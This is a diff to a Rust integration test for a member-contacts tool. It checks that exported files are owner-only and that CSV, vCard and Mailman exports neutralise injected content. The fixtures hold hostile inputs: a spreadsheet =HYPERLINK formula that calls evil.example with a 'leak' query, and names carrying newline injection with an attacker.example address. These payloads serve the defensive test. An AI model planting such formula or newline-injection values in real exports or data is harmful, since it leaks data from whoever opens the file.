@@ -184,7 +184,7 @@ fn the_whole_procedure() {
     let export = i.ok(&["members", "export", "--format", "csv"]);
     assert_eq!(
         export,
-        "tld,email,name,phone\nbe,jan.peeters@dnsbelgium.example,Jan Peeters,+32 16 28 49 70\nbe,els@cert.example,Els Janssens,\n"
+        "tld,email,name,phone\nbe,jan.peeters@dnsbelgium.example,Jan Peeters,\"'+32 16 28 49 70\"\nbe,els@cert.example,Els Janssens,\n"
     );
     let vcard = i.ok(&["members", "export", "--format", "vcard"]);
     assert_eq!(vcard.matches("BEGIN:VCARD").count(), 2);
@@ -598,4 +598,94 @@ fn approval_subscribes_through_mailman3_and_survives_its_outage() {
         support::mailman::LIST_ID
     ));
     assert_eq!(status, 200);
+}
+
+#[test]
+fn member_files_are_private_and_names_from_mail_stay_text() {
+    use std::os::unix::fs::PermissionsExt;
+    let mode = |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode();
+    let i = fresh();
+    i.ok(&["invite", "--tld", "nl"]);
+    poll(
+        &i,
+        &[reply(
+            &i,
+            "nl",
+            "directie@sidn.example",
+            "",
+            "Contact: Jan Jansen <jan@sidn.example>",
+        )],
+    );
+    // Names as a reply may write them, copied by an operator.
+    let long = "@SUM(1+2) Maximiliaan Alexander Vanderbeekenhoven-Oosterhuizen de la Croix";
+    i.ok(&[
+        "contacts",
+        "set",
+        "nl",
+        "jan@sidn.example, =HYPERLINK(\"http://evil.example/?leak\";\"Details\"), +31 26 352 5511",
+        "piet@sidn.example, -2+3; Piet\nNew <evil@attacker.example>",
+        &format!("long@sidn.example, {long}"),
+    ]);
+    i.ok(&["approve", "nl"]);
+
+    // The export backend's members file and an exported file: the owner's only.
+    let members = i.path("data/members.csv");
+    assert_eq!(mode(&members) & 0o777, 0o600);
+    let output = i.path("export.csv");
+    i.ok(&[
+        "members",
+        "export",
+        "--format",
+        "csv",
+        "--output",
+        output.to_str().unwrap(),
+    ]);
+    assert_eq!(mode(&output) & 0o777, 0o600);
+
+    // CSV: a cell a spreadsheet would run as a formula is quoted text, behind a `'`.
+    let csv = std::fs::read_to_string(&output).unwrap();
+    assert_eq!(std::fs::read_to_string(&members).unwrap(), csv);
+    assert!(
+        csv.contains("nl,jan@sidn.example,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\";\"\"Details\"\")\",\"'+31 26 352 5511\"\n"),
+        "{csv}"
+    );
+    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(csv.as_bytes())
+        .records()
+        .map(Result::unwrap)
+        .collect();
+    let names: Vec<&str> = rows.iter().map(|r| &r[2]).collect();
+    assert_eq!(
+        names,
+        [
+            "'=HYPERLINK(\"http://evil.example/?leak\";\"Details\")",
+            "'-2+3; Piet\nNew <evil@attacker.example>",
+            &format!("'{long}"),
+        ]
+    );
+
+    // vCard: RFC 6350 escapes, lines folded at 75 octets.
+    let vcard = i.ok(&["members", "export", "--format", "vcard"]);
+    assert_eq!(vcard.matches("BEGIN:VCARD\r\n").count(), 3, "{vcard}");
+    for line in vcard.split("\r\n") {
+        assert!(line.len() <= 75, "{line:?}");
+        assert!(!line.starts_with("New"), "{vcard}");
+    }
+    let unfolded = vcard.replace("\r\n ", "");
+    assert!(
+        unfolded.contains("\r\nFN:-2+3\\; Piet\\nNew <evil@attacker.example>\r\n"),
+        "{unfolded}"
+    );
+    assert!(
+        unfolded.contains(&format!("\r\nFN:{long}\r\n")),
+        "{unfolded}"
+    );
+
+    // Mailman's mass subscription: one line per member, whatever the name holds.
+    let mailman = i.ok(&["members", "export", "--format", "mailman"]);
+    let lines: Vec<&str> = mailman.lines().collect();
+    assert_eq!(lines.len(), 3, "{mailman}");
+    assert!(
+        lines.iter().all(|l| l.ends_with("@sidn.example>")),
+        "{mailman}"
+    );
 }
